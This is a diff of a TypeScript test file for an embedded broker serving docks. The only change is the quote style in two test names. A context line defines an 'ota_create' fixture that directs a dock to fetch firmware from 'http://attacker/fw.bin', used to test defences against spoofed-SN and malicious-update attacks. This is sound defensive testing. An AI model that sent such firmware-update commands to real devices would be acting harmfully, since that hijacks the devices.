@@ -44,7 +44,7 @@ const settle = () => new Promise((r) => setTimeout(r, 150));
 const otaCreate = JSON.stringify({ tid: 't1', bid: 'b1', timestamp: 1, method: 'ota_create', data: { devices: [{ sn: 'DOCKA', file_url: 'http://attacker/fw.bin' }] } });
 
 describe('embedded broker, open on loopback (tests, `dockside broker` default)', () => {
-  it('knows the address each dock publishes from, so the file URL can be on the dock\'s own subnet', async () => {
+  it("knows the address each dock publishes from, so the file URL can be on the dock's own subnet", async () => {
     broker = await startEmbeddedBroker({ host: '127.0.0.1', port: 0 });
     const dock = await client();
     expect(broker.dockAddress('DOCK-X')).toBeUndefined();
@@ -101,7 +101,7 @@ describe('embedded broker with logins: the attacks of issue 12', () => {
     expect(got).toEqual([]);
   });
 
-  it('a client cannot publish under another dock\'s SN, nor claim an SN a connected dock holds', async () => {
+  it("a client cannot publish under another dock's SN, nor claim an SN a connected dock holds", async () => {
     const refused: string[] = [];
     broker = await startEmbeddedBroker({ host: '127.0.0.1', port: 0, access: rules(refused) });
     const cloud = await client({ username: CLOUD.username, password: CLOUD.password });
